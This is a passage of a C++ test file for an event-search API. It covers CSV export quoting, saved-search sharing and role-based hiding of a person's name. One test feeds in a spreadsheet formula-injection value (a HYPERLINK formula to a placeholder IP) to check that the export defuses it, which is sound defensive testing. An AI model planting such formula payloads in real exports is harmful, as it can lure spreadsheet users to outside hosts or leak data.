        EXPECT_NE(reply.body.find("third"), std::string::npos);
        EXPECT_EQ(reply.body.find("second"), std::string::npos);
    }
    EXPECT_TRUE(std::filesystem::is_empty(world.exports));
}

// RFC 4180, and a value that a spreadsheet would run is defused.
TEST_P(Search, CsvIsQuotedAndHoldsNoFormula) {
    world.add_record("A", json::object({{"message", "=HYPERLINK(\"http://192.0.2.1/\",\"x\")"}, {"event", json::object({{"code", "-5"}})}, {"note", "a,b"}}).dump());
    const Reply reply = post("/api/v1/events/export", json::object({{"q", "message:*hyperlink*"}, {"from", from}, {"to", to}, {"format", "csv"}}));
    const auto lines = split(reply.body, '\n');
    ASSERT_EQ(lines.size(), 3U) << reply.body;
    EXPECT_TRUE(lines[0].starts_with("id,occurred,received,source,organisation,format,peer,unparsed,@timestamp,")) << lines[0];
    EXPECT_TRUE(lines[0].ends_with(",native\r"));
    EXPECT_NE(lines[1].find(R"~(,"'=HYPERLINK(""http://192.0.2.1/"",""x"")",)~"), std::string::npos) << lines[1];
    EXPECT_NE(lines[1].find(",-5,"), std::string::npos) << "a number stays one: " << lines[1];
}

// ---- saved searches ----

TEST_P(Search, SavedSearchesArePrivateUntilShared) {
    EXPECT_EQ(post("/api/v1/saved-searches", json::object({{"name", "mine"}, {"q", "logged"}, {"range", "24h"}})).status, 201);
    EXPECT_EQ(post("/api/v1/saved-searches", json::object({{"name", "ours"}, {"q", "logged"}, {"shared", true}})).status, 201);
    EXPECT_EQ(post("/api/v1/saved-searches", json::object({{"name", "of a person"}, {"q", "user.name:thuydang"}, {"shared", true}})).status, 201);
    const auto names = [&](const Account& account) { return world.send({.path = "/api/v1/saved-searches"}, &account.credential).body; };
    const std::string mine = names(world.account("A", Role::analyst)), reader = names(world.account("A", Role::reader)), lead = names(world.account("A", Role::duty_lead));
    EXPECT_NE(mine.find("\"mine\""), std::string::npos);
    EXPECT_EQ(lead.find("\"mine\""), std::string::npos);
    EXPECT_NE(lead.find("\"of a person\""), std::string::npos);
    EXPECT_NE(reader.find("\"ours\""), std::string::npos);
    EXPECT_EQ(reader.find("thuydang"), std::string::npos) << "who may not see persons does not see them in a query either";
    EXPECT_EQ(names(world.account("B", Role::analyst)).find("ours"), std::string::npos);
}

INSTANTIATE_TEST_SUITE_P(Over, Search, ::testing::Values(ArchiveKind::fake, ArchiveKind::real), [](const auto& one) { return one.param == ArchiveKind::fake ? "Fake" : "Real"; });

}  // namespace
}  // namespace vg::api::test
